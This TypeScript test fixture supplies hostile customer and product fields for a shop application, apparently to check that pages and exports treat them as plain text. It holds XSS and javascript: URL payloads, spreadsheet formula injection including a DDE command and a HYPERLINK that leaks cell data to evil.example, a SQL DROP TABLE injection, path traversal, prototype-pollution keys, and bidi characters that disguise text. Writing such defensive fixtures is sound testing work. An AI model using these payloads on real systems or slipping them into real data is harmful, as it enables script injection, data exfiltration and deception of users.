import type { Customer } from '../../../domain/customer.ts';
import type { ShopProduct } from './types.ts';

/*
 * Strings that are harmful unless a page treats them as plain text: markup, a spreadsheet formula, a `javascript:` URL,
 * and characters that reverse or hide the text after them.
 */

const name = '<img src=x onerror=alert(1)>\u202Egnp.eciovni\u202C';

const customer: Partial<Customer> = {
  name,
  email: 'mallory@evil.example?subject=x&body=y"><script>alert(2)</script>',
  phones: [{ number: 'javascript:alert(3)', type: { code: '<b>mobile</b>', label: '<b>mobile</b>' } }],
  defaultBilling: {
    name: '=HYPERLINK("https://evil.example";"Click")',
    company: "+1+cmd|' /C calc'!A0",
    lines: ['</textarea><svg/onload=alert(5)>', '\u200B\u2066hidden\u2069'],
    city: '@SUM(1+1)*cmd',
    postalCode: '-2+3',
    country: '${alert(6)}',
  },
  login: '__proto__',
  level: { id: 'constructor', name: '{{7*7}}' },
  businessAccounts: [{ id: '../../admin', name: '<!-- ' }],
  privacy: { infoUrl: 'javascript:alert(7)' },
};

export const hostileTexts = {
  name,
  customer,
  notes: [
    '<script>alert(8)</script>',
    '=HYPERLINK("https://evil.example?leak="&A1,"Invoice")',
    'Pay to \u202Erotcerid eht\u202C, not to \u2067\u200Fus\u2069.',
    'A\u0007B\uFEFFC\u00ADD',
    '[click](javascript:alert(9)) <a href="data:text/html,<script>alert(10)</script>">here</a>',
  ],
};

/** Products with hostile strings in lines, rows and links. */
export const hostileProducts: readonly ShopProduct[] = [
  ['"><img src=x onerror=alert(11)>', '=1+1', 'javascript:alert(12)'],
  ['\u202Epuc eslaf\u202C, oat', '\t=cmd', 'data:text/html,<script>alert(13)</script>'],
  ['Cup\u200B\u200B\u200B, invisible', '-1+1', ' javascript:alert(14)'],
  ['@import url(//evil.example)', "'; DROP TABLE orders; --", 'vbscript:x'],
].map(([title, sku, url], index) => ({
  id: `prod-hostile-${index + 1}`,
  title: title!,
  sku: sku!,
  url: url!,
  price: '13.00',
  cost: '5.00',
  feeRate: '0.03',
  promotions: true,
}));
